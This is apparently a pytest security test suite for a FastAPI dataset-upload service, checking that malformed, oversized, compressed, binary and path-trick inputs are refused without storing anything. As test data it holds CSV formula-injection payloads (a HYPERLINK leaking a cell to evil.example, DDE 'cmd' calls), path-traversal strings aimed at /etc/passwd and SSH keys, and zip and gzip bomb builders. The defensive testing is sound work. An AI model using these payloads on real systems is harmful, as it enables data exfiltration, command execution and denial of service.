"""Hostile input: malformed, oversized, binary, mis-encoded and compressed uploads; CSV
formula injection; path tricks in names; extreme and non-finite parameters.

Every refusal is a 4xx ``application/problem+json`` naming the field (and the row, for
a row's fault) and leaves every table as it was: nothing is half-stored.
"""

from __future__ import annotations

import asyncio
import bz2
import csv
import gzip
import io
import itertools
import json
import random
import time
import tracemalloc
import uuid
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from starlette.types import Message, Scope

from app.config import Settings
from app.db import Database
from app.main import MULTIPART_OVERHEAD
from tests.proof.conftest import assert_problem, nothing_stored
from tests.service import factories
from tests.service.conftest import UPLOAD_LIMIT

CSV_HEADER = b"text,label\n"
GOOD_ROWS = factories.csv_bytes(factories.ROWS)


def _upload(client: TestClient, world: factories.World, content: bytes, **kwargs: Any) -> Any:
    return factories.upload(client, world.owner, content, **kwargs)


# -- malformed files ---------------------------------------------------------------------

MALFORMED: dict[str, tuple[bytes, str, int | None]] = {
    # name: (content, format, the row named in the problem, if any)
    "csv unterminated quote": (CSV_HEADER + b'fine,cardio\n"never closed,cardio\n', "csv", 2),
    "csv too many fields": (CSV_HEADER + b"a,cardio\nb,cardio,extra\n", "csv", 2),
    "csv too few fields": (CSV_HEADER + b"a,cardio\nonly one field\n", "csv", 2),
    "csv undeclared label": (CSV_HEADER + b"a,cardio\nb,neuro\n", "csv", 2),
    "csv empty label": (CSV_HEADER + b"a,cardio\nb,\n", "csv", 2),
    "csv header only": (CSV_HEADER, "csv", None),
    "csv empty": (b"", "csv", None),
    "csv blank lines only": (b"\n\n \n", "csv", None),
    "csv no such column": (b"body,label\na,cardio\n", "csv", None),
    "csv column named twice": (b"text,text,label\na,b,cardio\n", "csv", None),
    "csv bare CR line ends": (b"text,label\ra,cardio\rb,ortho\r", "csv", None),
    "jsonl broken json": (b'{"text": "a", "label": "cardio"}\n{"text": \n', "jsonl", 2),
    "jsonl array": (b'{"text": "a", "label": "cardio"}\n["a", "cardio"]\n', "jsonl", 2),
    "jsonl nested text": (b'{"text": {"a": 1}, "label": "cardio"}\n', "jsonl", 1),
    "jsonl boolean label": (b'{"text": "a", "label": true}\n', "jsonl", 1),
    "jsonl deep nesting": (b'{"text": ' + b"[" * 20_000 + b"]" * 20_000 + b"}\n", "jsonl", 1),
    "jsonl lone surrogate text": (b'{"text": "a\\ud800b", "label": "cardio"}\n', "jsonl", 1),
    "jsonl lone surrogate label": (b'{"text": "a", "label": "\\udfff"}\n', "jsonl", 1),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_malformed_files_are_422_naming_the_row_and_store_nothing(
    client: TestClient, world: factories.World, db: Database, case: str
) -> None:
    content, fmt, row = MALFORMED[case]
    filename = f"notes.{fmt}"
    with nothing_stored(db):
        response = _upload(client, world, content, filename=filename, format=fmt)
    body = assert_problem(response, 422)
    assert body["field"] in ("file", "text_column", "label_column"), body
    if row is not None:
        rows = [e["row"] for e in body.get("errors", [])] or [body.get("row")]
        assert row in rows, body
    if case == "csv column named twice":
        assert body["field"] == "text_column"


def test_a_multi_row_error_report_is_bounded_and_quotes_no_value(
    client: TestClient, world: factories.World, db: Database
) -> None:
    secret = "SECRET-" + uuid.uuid4().hex
    rows = [(f"{secret} {i}", f"{secret}-label") for i in range(500)]
    with nothing_stored(db):
        response = _upload(client, world, factories.csv_bytes(rows))
    body = assert_problem(response, 422, field="file")
    assert body["error_count"] == 500 and len(body["errors"]) == 50
    assert secret not in response.text


# -- size --------------------------------------------------------------------------------


def _multipart(
    parts: dict[str, str], file_chunks: Iterator[bytes], boundary: str
) -> Iterator[bytes]:
    for name, value in parts.items():
        yield (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        ).encode()
    yield (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="n.csv"\r\n'
        "Content-Type: text/csv\r\n\r\n"
    ).encode()
    yield from file_chunks
    yield f"\r\n--{boundary}--\r\n".encode()


FORM = {
    "name": "big",
    "text_column": "text",
    "label_column": "label",
    "labels": "cardio,ortho",
    "epsilon_cap": "1",
}


def test_an_endless_upload_is_cut_off_at_the_limit_while_it_streams(
    app: FastAPI, world: factories.World, db: Database
) -> None:
    """A 1 GiB chunked body, fed to the application one chunk at a time as a server
    would: the application stops pulling soon after the limit and answers 413, and
    memory does not grow with the body."""
    chunk = b"a long clinical note without end,cardio\n" * 1600  # 64 000 bytes
    boundary = uuid.uuid4().hex
    body = _multipart(FORM, itertools.repeat(chunk, 2**30 // len(chunk)), boundary)
    pulled = 0
    sent: list[Message] = []

    async def receive() -> Message:
        nonlocal pulled
        part = next(body, None)
        if part is None:
            return {"type": "http.disconnect"}
        pulled += len(part)
        return {"type": "http.request", "body": part, "more_body": True}

    async def send(message: Message) -> None:
        sent.append(message)

    headers = [
        (b"host", b"testserver"),
        (b"authorization", f"Bearer {world.owner.key}".encode()),
        (b"content-type", f"multipart/form-data; boundary={boundary}".encode()),
        (b"transfer-encoding", b"chunked"),
    ]
    scope: Scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/v1/datasets",
        "raw_path": b"/v1/datasets",
        "query_string": b"",
        "root_path": "",
        "headers": headers,
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    tracemalloc.start()
    try:
        with nothing_stored(db):
            asyncio.run(app(scope, receive, send))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    start = next(m for m in sent if m["type"] == "http.response.start")
    assert start["status"] == 413
    assert (b"content-type", b"application/problem+json") in start["headers"]
    assert pulled <= UPLOAD_LIMIT + MULTIPART_OVERHEAD + 2 * len(chunk), pulled
    assert peak < 16 * 2**20, peak


def test_declared_oversize_and_a_file_over_the_upload_limit_are_413(
    client: TestClient, world: factories.World, db: Database, settings: Settings
) -> None:
    with nothing_stored(db):
        declared = client.post(
            "/v1/datasets",
            headers={
                **world.owner.headers,
                "Content-Type": "multipart/form-data; boundary=x",
                "Content-Length": str(10**12),
            },
            content=b"--x--\r\n",
        )
        assert_problem(declared, 413)
        rows = factories.csv_bytes([(f"note {i} " + "x" * 90, "cardio") for i in range(700)])
        assert settings.max_upload_bytes < len(rows) < settings.max_upload_bytes + 2**20
        assert_problem(_upload(client, world, rows), 413)
        vocabulary = client.post(
            "/v1/vocabularies",
            headers=world.owner.headers,
            data={"name": "big"},
            files={"file": ("v.txt", b"phrase\n" * (settings.max_upload_bytes // 7 + 10))},
        )
        assert_problem(vocabulary, 413)


# -- binary, encodings, archives ---------------------------------------------------------


def _zip_bomb(expanded: int) -> bytes:
    """A zip of one member that inflates to ``expanded`` bytes of zeros (built without
    holding them in memory)."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("notes.csv", "w", force_zip64=True) as member,
    ):
        block = b"\0" * 2**20
        for _ in range(expanded // len(block)):
            member.write(block)
    return buffer.getvalue()


def _gzip_bomb(expanded: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip container
    block = b"0" * 2**20
    parts = [compressor.compress(block) for _ in range(expanded // len(block))]
    return b"".join(parts) + compressor.flush()


BINARY: dict[str, tuple[bytes, int]] = {
    "png": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)), 415),
    "elf": (b"\x7fELF\x02\x01\x01\0" + bytes(range(256)), 415),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", 415),
    "xlsx": (b"PK\x03\x04\x14\0\x06\0" + bytes(64), 415),
    "utf-16 with bom": ("text,label\na,cardio\n".encode("utf-16"), 415),
    "utf-16 without bom": ("text,label\na,cardio\n".encode("utf-16-le"), 415),
    "utf-32": ("text,label\na,cardio\n".encode("utf-32"), 415),
    "nul in the first line": (b"text,label\0\na,cardio\n", 415),
    "bzip2": (bz2.compress(GOOD_ROWS), 415),
    "random bytes without nul": (random.Random(7).randbytes(4096).replace(b"\0", b"\1"), 422),
}


@pytest.mark.parametrize("case", sorted(BINARY))
def test_binary_and_foreign_encodings_are_refused(
    client: TestClient, world: factories.World, db: Database, case: str
) -> None:
    content, status = BINARY[case]
    with nothing_stored(db):
        response = _upload(client, world, content, filename="notes.csv")
    assert_problem(response, status, field="file" if status == 422 else None)


def test_text_that_is_not_utf8_names_its_row_and_line(
    client: TestClient, world: factories.World, db: Database
) -> None:
    latin1 = "text,label\nfine,cardio\n\ncaf\xe9 au lait,ortho\n".encode("latin-1")
    with nothing_stored(db):
        response = _upload(client, world, latin1)
    body = assert_problem(response, 422, field="file")
    assert body["row"] == 2 and body["line"] == 4
    assert "not valid UTF-8" in body["detail"] and "caf" not in response.text
    late = GOOD_ROWS + b"x" * 9000 + b"\n\xff\xfe,cardio\n"
    with nothing_stored(db):
        response = _upload(client, world, late)
    assert_problem(response, 422, field="file")


@pytest.mark.parametrize("kind", ["zip", "gzip"])
def test_compression_bombs_are_refused_without_inflating(
    client: TestClient, world: factories.World, db: Database, kind: str
) -> None:
    expanded = 48 * 2**20
    bomb = _zip_bomb(expanded) if kind == "zip" else _gzip_bomb(expanded)
    assert len(bomb) < UPLOAD_LIMIT, len(bomb)  # under the limit: only the content decides
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with nothing_stored(db):
            response = _upload(client, world, bomb, filename="notes.csv", format="csv")
            vocabulary = client.post(
                "/v1/vocabularies",
                headers=world.owner.headers,
                data={"name": "v"},
                files={"file": ("v.txt", bomb)},
            )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert_problem(response, 415)
    assert_problem(vocabulary, 415)
    assert time.perf_counter() - started < 10
    assert peak < 16 * 2**20, peak  # nothing was inflated (48 MiB would be)


def test_a_compressed_request_body_is_not_inflated(
    client: TestClient, world: factories.World, db: Database
) -> None:
    """``Content-Encoding: gzip`` on a request: the server does not decode it, so the
    multipart body is unreadable: a 4xx, never a 5xx and never a stored upload."""
    boundary = uuid.uuid4().hex
    body = b"".join(_multipart(FORM, iter([GOOD_ROWS]), boundary))
    with nothing_stored(db):
        response = client.post(
            "/v1/datasets",
            headers={
                **world.owner.headers,
                "Content-Type": f"multipart/form-data; boundary={boundary}",
                "Content-Encoding": "gzip",
            },
            content=gzip.compress(body),
        )
    assert 400 <= response.status_code < 500, response.text
    assert response.headers["content-type"] == "application/problem+json"


# -- formula injection -------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=1;=2",
    "plain text, then =not at the start",
)


def test_formulas_in_documents_are_stored_and_escaped_in_released_csv(
    client: TestClient, world: factories.World, db: Database
) -> None:
    labels = ("=cmd|' /C calc'!A0", "+label")
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)  # as a spreadsheet saves CR in a cell
    writer.writerow(["text", "label"])
    writer.writerows((f"{formula} note {i}", labels[i % 2]) for i, formula in enumerate(FORMULAS))
    dataset_id = factories.dataset(
        client, world.owner, content=buffer.getvalue().encode(), labels=labels, cap=10
    )
    job_id = factories.job(client, world.owner, dataset_id, llm="vllm")
    sequences = [(labels[i % 2], (formula, "fine")) for i, formula in enumerate(FORMULAS)]
    factories.run_job(db, job_id, sequences=sequences, texts=list(FORMULAS))
    release = client.post(
        f"/v1/jobs/{job_id}/release",
        headers=world.owner.headers,
        json={"client_organisations": [str(world.client.organisation_id)]},
    )
    assert release.status_code == 201
    download = client.get(
        f"/v1/releases/{release.json()['id']}/download",
        params={"format": "csv"},
        headers=world.client.headers,
    )
    assert download.status_code == 200
    rows = list(csv.reader(io.StringIO(download.text, newline="")))
    assert rows[0] == ["label", "text", "keyphrases"] and len(rows) == len(FORMULAS) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    texts = [row[1] for row in rows[1:]]
    assert texts == [
        "'" + f if f.startswith(FORMULA_STARTS) else f for f in FORMULAS
    ]  # escaped, otherwise intact
    jsonl = client.get(
        f"/v1/releases/{release.json()['id']}/download", headers=world.client.headers
    )
    assert [json.loads(line)["text"] for line in jsonl.text.splitlines()] == list(FORMULAS)


# -- names -------------------------------------------------------------------------------

SAFE_NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "/absolute/path",
    "~root/.ssh/id_rsa",
    "%2e%2e%2fetc%2fpasswd",
    "name with spaces and 'quotes\" <b>html</b>",
    "מחלקת קרדיולוגיה",  # Hebrew, written right to left
    "قسم القلب",  # Arabic
    "x" * 200,
)
BAD_NAMES = (
    "",
    "x" * 201,
    "nul\x00byte",
    "new\nline",
    "tab\tname",
    "rtl override \u202egnp.exe",
    "zero\u200bwidth",
    "bidi isolate \u2066x\u2069",
    "del\x7f",
)


def test_path_like_and_right_to_left_names_are_stored_verbatim_never_as_paths(
    client: TestClient, world: factories.World, settings: Settings, tmp_path: Path
) -> None:
    before = sorted(p.name for p in settings.data_dir.rglob("*"))
    made = {"keyring"}  # each dataset's key file, named by its id (app/crypto.py)
    for name in SAFE_NAMES:
        response = _upload(client, world, GOOD_ROWS, name=name, filename=name)
        assert response.status_code == 201, (name, response.text)
        dataset_id = response.json()["id"]
        made.add(f"{dataset_id}.key")
        shown = client.get(f"/v1/datasets/{dataset_id}", headers=world.owner.headers)
        assert shown.json()["name"] == name
        vocabulary = client.post(
            "/v1/vocabularies",
            headers=world.owner.headers,
            data={"name": name},
            files={"file": (name, f"phrase {uuid.uuid4().hex}\n".encode())},
        )
        assert vocabulary.status_code == 201, (name, vocabulary.text)
        assert vocabulary.json()["name"] == name
    after = sorted(p.name for p in settings.data_dir.rglob("*"))
    assert set(after) - set(before) <= made  # no file named by the uploader


@pytest.mark.parametrize("name", BAD_NAMES, ids=[repr(n)[:24] for n in BAD_NAMES])
def test_names_with_control_or_format_characters_are_422(
    client: TestClient, world: factories.World, db: Database, name: str
) -> None:
    with nothing_stored(db):
        dataset = _upload(client, world, GOOD_ROWS, name=name)
        vocabulary = client.post(
            "/v1/vocabularies",
            headers=world.owner.headers,
            data={"name": name},
            files={"file": ("v.txt", b"heart\n")},
        )
        organisation = client.post(
            "/v1/organisations",
            headers=world.admin.headers,
            json={"name": name, "kind": "owner"},
        )
    assert_problem(dataset, 422, field="name")
    assert_problem(vocabulary, 422, field="name")
    assert_problem(organisation, 422, field="name")


def test_names_that_are_not_unicode_text_are_422(
    client: TestClient, world: factories.World, db: Database
) -> None:
    """A lone surrogate escaped in JSON is not text: refused."""
    dataset_id = factories.dataset(client, world.owner, cap=5)
    spec = json.dumps(factories.spec())[:-1].encode()
    requests = (
        ("/v1/organisations", world.admin, b'{"name": "clinic \\ud800", "kind": "owner"}'),
        (f"/v1/datasets/{dataset_id}/jobs", world.owner, spec + b', "document_type": "\\udfff"}'),
    )
    with nothing_stored(db):
        for path, caller, raw in requests:
            headers = {**caller.headers, "Content-Type": "application/json"}
            assert_problem(client.post(path, headers=headers, content=raw), 422)


def test_a_form_field_that_is_not_utf8_is_read_as_latin1_never_a_5xx(
    client: TestClient, world: factories.World
) -> None:
    """Starlette decodes a form field that is not UTF-8 as Latin-1: the name is stored as
    that (printable) text."""
    boundary = uuid.uuid4().hex
    raw_form = b"".join(_multipart({**FORM, "name": "ok"}, iter([GOOD_ROWS]), boundary))
    raw_form = raw_form.replace(b"\r\n\r\nok\r\n", b"\r\n\r\nbad \xe9 name\r\n")
    headers = {**world.owner.headers, "Content-Type": f"multipart/form-data; boundary={boundary}"}
    response = client.post("/v1/datasets", headers=headers, content=raw_form)
    assert response.status_code == 201, response.text
    assert response.json()["name"] == "bad \xe9 name"


# -- extreme and non-finite parameters ---------------------------------------------------

BAD_CAPS = ("1e308", "-0", "0", "-1", "nan", "NaN", "inf", "-inf", "Infinity", "1e1000", "0x10", "")


@pytest.mark.parametrize("cap", BAD_CAPS)
def test_extreme_caps_in_an_upload_form_are_422(
    client: TestClient, world: factories.World, db: Database, cap: str
) -> None:
    with nothing_stored(db):
        response = _upload(client, world, GOOD_ROWS, cap=cap)
    assert_problem(response, 422, field="epsilon_cap")


BAD_SPECS: dict[str, tuple[str, str]] = {
    # name: (raw JSON fragment replacing the field's value, the field)
    "epsilon 1e308": ('"epsilon_vocab": 1e308', "epsilon_vocab"),
    "epsilon -0": ('"epsilon_vocab": -0.0', "epsilon_vocab"),
    "epsilon zero": ('"epsilon_kde": 0', "epsilon_kde"),
    "epsilon NaN": ('"epsilon_vocab": NaN', "epsilon_vocab"),
    "epsilon Infinity": ('"epsilon_kde": Infinity', "epsilon_kde"),
    "epsilon -Infinity": ('"epsilon_kde": -Infinity', "epsilon_kde"),
    "epsilon overflow": ('"epsilon_kde": 1e400', "epsilon_kde"),
    "epsilon as text": ('"epsilon_kde": "0.5x"', "epsilon_kde"),
    "count epsilon NaN": ('"epsilon_count": NaN', "epsilon_count"),
    "huge int": ('"per_class": 1000000000000000000000000000000000000000', "per_class"),
    "negative size": ('"vocabulary_size": -1', "vocabulary_size"),
    "zero size": ('"sequence_length": 0', "sequence_length"),
    "fractional int": ('"num_features": 2.5', "num_features"),
    "seed over 2**63": ('"seed": 18446744073709551616', "seed"),
    "negative seed": ('"seed": -1', "seed"),
    "bandwidth NaN": ('"bandwidth": NaN', "bandwidth"),
    "bandwidth huge": ('"bandwidth": 1e300', "bandwidth"),
    "temperature negative": ('"temperature": -1e-300', "temperature"),
    "noise floor Infinity": ('"noise_floor": Infinity', "noise_floor"),
    "contribution bound over sqrt 2": ('"contribution_bound": 1.5', "contribution_bound"),
    "llm calls over the server cap": ('"max_llm_calls": 1000000000', "max_llm_calls"),
    "unknown field": ('"device": "cuda"', "device"),
    "unknown llm": ('"llm": "http://evil.example/v1"', "llm"),
    "nul in document type": ('"document_type": "note\\u0000"', "document_type"),
}


@pytest.mark.parametrize("case", sorted(BAD_SPECS))
def test_extreme_job_parameters_are_422_naming_the_field_and_reserve_nothing(
    client: TestClient, world: factories.World, db: Database, case: str
) -> None:
    dataset_id = factories.dataset(client, world.owner, cap=5)
    fragment, field = BAD_SPECS[case]
    spec = factories.spec()
    key = fragment.split(":", 1)[0].strip('"')
    spec.pop(key, None)
    raw = json.dumps(spec)[:-1] + ", " + fragment + "}"
    with nothing_stored(db):
        response = client.post(
            f"/v1/datasets/{dataset_id}/jobs",
            headers={**world.owner.headers, "Content-Type": "application/json"},
            content=raw.encode(),
        )
    assert_problem(response, 422, field=field)
    ledger = client.get(f"/v1/datasets/{dataset_id}/ledger", headers=world.owner.headers).json()
    assert ledger["entries"] == [] and ledger["budget"]["remaining"] == 5.0


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"limit": "0"}, "limit"),
        ({"limit": "-1"}, "limit"),
        ({"limit": str(10**30)}, "limit"),
        ({"cursor": "-5"}, "cursor"),
        ({"cursor": "nan"}, "cursor"),
        ({"since": "2024-01-01T00:00:00"}, "since"),  # no time zone
        ({"since": "9999-99-99"}, "since"),
        ({"until": "inf"}, "until"),
        ({"kind": "job.exploded"}, "kind.0"),
        ({"organisation_id": "../../etc/passwd"}, "organisation_id"),
    ],
)
def test_extreme_query_parameters_are_422_naming_the_field(
    client: TestClient, world: factories.World, params: dict[str, str], field: str
) -> None:
    response = client.get("/v1/audit/events", params=params, headers=world.auditor.headers)
    assert_problem(response, 422, field=field)


@pytest.mark.parametrize(
    "body",
    [
        '{"epsilon_cap": 1e308, "reason": "raise"}',
        '{"epsilon_cap": NaN, "reason": "raise"}',
        '{"epsilon_cap": Infinity, "reason": "raise"}',
        '{"epsilon_cap": -0.0, "reason": "raise"}',
        '{"epsilon_cap": true, "reason": "raise"}',
        '{"epsilon_cap": [10], "reason": "raise"}',
    ],
)
def test_extreme_caps_in_a_cap_change_are_422_and_change_nothing(
    client: TestClient, world: factories.World, db: Database, body: str
) -> None:
    dataset_id = factories.dataset(client, world.owner, cap=5)
    with nothing_stored(db):
        response = client.patch(
            f"/v1/datasets/{dataset_id}",
            headers={**world.admin.headers, "Content-Type": "application/json"},
            content=body.encode(),
        )
    assert_problem(response, 422, field="epsilon_cap")
    shown = client.get(f"/v1/datasets/{dataset_id}", headers=world.owner.headers).json()
    assert shown["budget"]["epsilon_cap"] == 5.0


def test_non_uuid_and_overlong_path_ids_are_422(client: TestClient, world: factories.World) -> None:
    for path in (
        "/v1/datasets/..%2F..%2Fetc%2Fpasswd",
        "/v1/datasets/" + "a" * 10_000,
        "/v1/jobs/00000000-0000-0000-0000-00000000000g",
        "/v1/releases/%00",
    ):
        response = client.get(path, headers=world.admin.headers)
        assert 400 <= response.status_code < 500, (path, response.status_code)
        assert response.headers["content-type"] == "application/problem+json"
